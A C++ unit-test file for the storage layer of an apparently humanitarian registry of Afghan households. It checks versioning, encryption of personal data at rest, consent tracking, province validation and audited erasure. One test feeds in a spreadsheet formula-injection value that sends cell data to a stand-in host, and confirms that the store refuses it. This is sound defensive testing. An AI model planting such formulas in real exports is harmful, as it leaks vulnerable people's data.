// Households and their members: stored sealed, read back exactly, versioned,
// validated, and erased.
#include <gtest/gtest.h>

#include "store_fixture.h"

namespace sanad::store {
namespace {

class PersonRecordsTest : public StoreTest {};
INSTANTIATE_TEST_SUITE_P(Backends, PersonRecordsTest, sanad::testing::BothBackends(),
                         sanad::testing::BackendName);

TEST_P(PersonRecordsTest, CreatesAndReadsBackAHouseholdExactly) {
  auto created = store_->CreateHousehold(FamilyInBothScripts(), kActor);
  ASSERT_TRUE(created) << created.error().message;
  EXPECT_EQ(created->version, 1);
  auto read = store_->GetHousehold(created->id, kActor);
  ASSERT_TRUE(read) << read.error().message;
  EXPECT_EQ(*read, *created);
  EXPECT_EQ(read->members[0].given_name, "محمد نبی");
}

TEST_P(PersonRecordsTest, StaleUpdateIsAConflictAndCurrentOneApplies) {
  auto created = store_->CreateHousehold(FamilyInBothScripts(), kActor);
  ASSERT_TRUE(created);
  Household edit = *created;
  edit.current_location = "Torkham reception centre";
  auto first = store_->UpdateHousehold(edit, 1, kActor);
  ASSERT_TRUE(first) << first.error().message;
  EXPECT_EQ(first->version, 2);
  auto stale = store_->UpdateHousehold(edit, 1, kActor);
  ASSERT_FALSE(stale);
  EXPECT_EQ(stale.error().code, Error::Code::kConflict);
  EXPECT_EQ(store_->GetHousehold(created->id, kActor)->current_location,
            "Torkham reception centre");
}

TEST_P(PersonRecordsTest, UpdateCannotSilentlyDropAMember) {
  auto created = store_->CreateHousehold(FamilyInBothScripts(), kActor);
  ASSERT_TRUE(created);
  Household edit = *created;
  edit.members.pop_back();
  auto r = store_->UpdateHousehold(edit, 1, kActor);
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().field, "members");
  EXPECT_EQ(store_->GetHousehold(created->id, kActor)->version, 1);
}

TEST_P(PersonRecordsTest, RawDatabaseFilesHoldNoNamePhoneOrDocumentNumber) {
  ASSERT_TRUE(store_->CreateHousehold(FamilyInBothScripts(), kActor));
  const std::string raw = RawFiles();
  ASSERT_FALSE(raw.empty());
  for (const char* secret :
       {"محمد", "عبدالرحمن", "Zarghuna", "Wazirgul", "123456", "123 456", "4417", "55512"}) {
    SCOPED_TRACE(secret);
    EXPECT_EQ(raw.find(secret), std::string::npos);
  }
}

// Defect D: a member added by an update with consents was stored with no
// record of who took the consent; so was a changed consent.
TEST_P(PersonRecordsTest, WhoRecordedAConsentIsKeptForNewAndChangedConsents) {
  Household h = FamilyInBothScripts();
  h.members[0].consent_recorded_by.clear();
  auto created = store_->CreateHousehold(h, Actor{"registrar-1", ""});
  ASSERT_TRUE(created) << created.error().message;
  EXPECT_EQ(created->members[0].consent_recorded_by, "registrar-1");
  EXPECT_EQ(created->members[1].consent_recorded_by, "") << "no consent, no recorder";

  Household edit = *created;
  Person child;
  child.given_name = "Nazo";
  child.relationship = Relationship::kDaughter;
  child.consents = {ConsentPurpose::kRegistration};
  edit.members.push_back(child);
  edit.members[1].consents = {ConsentPurpose::kAssistance};  // the wife consents now
  auto updated = store_->UpdateHousehold(edit, 1, Actor{"registrar-2", ""});
  ASSERT_TRUE(updated) << updated.error().message;
  ASSERT_EQ(updated->members.size(), 3u);
  EXPECT_EQ(updated->members[0].consent_recorded_by, "registrar-1") << "unchanged consent";
  EXPECT_EQ(updated->members[1].consent_recorded_by, "registrar-2");
  EXPECT_EQ(updated->members[2].consent_recorded_by, "registrar-2");

  // A changed consent carried over with its old recorder is recorded anew.
  Household again = *updated;
  again.members[0].consents = {ConsentPurpose::kRegistration};
  auto changed = store_->UpdateHousehold(again, 2, Actor{"registrar-3", ""});
  ASSERT_TRUE(changed) << changed.error().message;
  EXPECT_EQ(changed->members[0].consent_recorded_by, "registrar-3");
  EXPECT_EQ(changed->members[1].consent_recorded_by, "registrar-2");
}

// Defect G: a household's destination (what registered flows publish) must
// be a province of Afghanistan the gazetteer knows; spellings are stored
// canonical.
TEST_P(PersonRecordsTest, HouseholdDestinationMustBeAKnownAfghanProvince) {
  Household h = FamilyInBothScripts();
  h.destination_province = "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")";
  auto refused = store_->CreateHousehold(h, kActor);
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().field, "destination_province");
  h.destination_province = "nangrahar";
  auto created = store_->CreateHousehold(h, kActor);
  ASSERT_TRUE(created) << created.error().message;
  EXPECT_EQ(created->destination_province, "Nangarhar");
  Household edit = *created;
  edit.destination_province = "Punjab";
  EXPECT_EQ(store_->UpdateHousehold(edit, 1, kActor).error().field, "destination_province");
  edit.destination_province = "";
  EXPECT_TRUE(store_->UpdateHousehold(edit, 1, kActor)) << "the destination may be unknown";
}

// Defect B: erasure records why, in the audit chain, next to the person's id.
TEST_P(PersonRecordsTest, ErasureNeedsAReasonAndAuditsIt) {
  auto created = store_->CreateHousehold(FamilyInBothScripts(), kActor);
  ASSERT_TRUE(created);
  const std::string id = created->members[1].id;
  for (const char* reason : {"", "   ", "why", "bad\xE2\x80\xAEreason here"}) {
    SCOPED_TRACE(reason);
    auto r = store_->ErasePerson(id, reason, kActor);
    ASSERT_FALSE(r);
    EXPECT_EQ(r.error().field, "reason");
  }
  ASSERT_TRUE(store_->GetPerson(id, kActor)) << "a refused erasure changes nothing";
  ASSERT_TRUE(store_->ErasePerson(id, "the person asked for it on 2025-04-02", kActor));
  auto head = store_->AuditHead();
  ASSERT_TRUE(head);
  EXPECT_EQ(head->action, "person.erase");
  EXPECT_EQ(head->object_id, id);
  EXPECT_EQ(head->detail, "the person asked for it on 2025-04-02");
  EXPECT_TRUE(store_->VerifyAudit());
  EXPECT_EQ(store_->ErasePerson(id, "the person asked for it", kActor).error().code,
            Error::Code::kNotFound);
  // The reason is part of the chain: editing it breaks verification.
  auto altered =
      db_.Execute("UPDATE audit_log SET detail = 'routine' WHERE action = 'person.erase'");
  ASSERT_TRUE(altered) << altered.error().message;
  ASSERT_EQ(*altered, 1);
  EXPECT_FALSE(store_->VerifyAudit());
}

}  // namespace
}  // namespace sanad::store
